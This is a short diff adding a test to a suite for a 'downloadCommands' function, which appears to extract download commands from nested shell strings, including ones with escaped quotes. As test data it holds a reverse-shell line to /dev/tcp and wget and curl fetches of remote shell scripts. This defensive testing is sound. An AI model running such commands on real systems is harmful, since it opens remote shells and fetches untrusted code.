@@ -53,6 +53,13 @@ describe('download commands', () => {
       .toEqual(['bash -i >& /dev/tcp/198.51.100.17/4444 0>&1']);
   });
 
+  it('leaves out the backslash of an escaped quote that ends a nested command', () => {
+    expect(downloadCommands(String.raw`bash -c "sh -c \"wget http://198.51.100.4/d.sh\""`))
+      .toEqual(['wget http://198.51.100.4/d.sh']);
+    expect(downloadCommands(String.raw`sh -c 'curl -O http://198.51.100.5/e.sh\''`))
+      .toEqual(['curl -O http://198.51.100.5/e.sh']);
+  });
+
   it('bounds a command and its look-back', () => {
     const long = downloadCommands(`${'x'.repeat(5000)} wget http://198.51.100.1/${'a'.repeat(5000)}`);
     expect(long).toHaveLength(1);
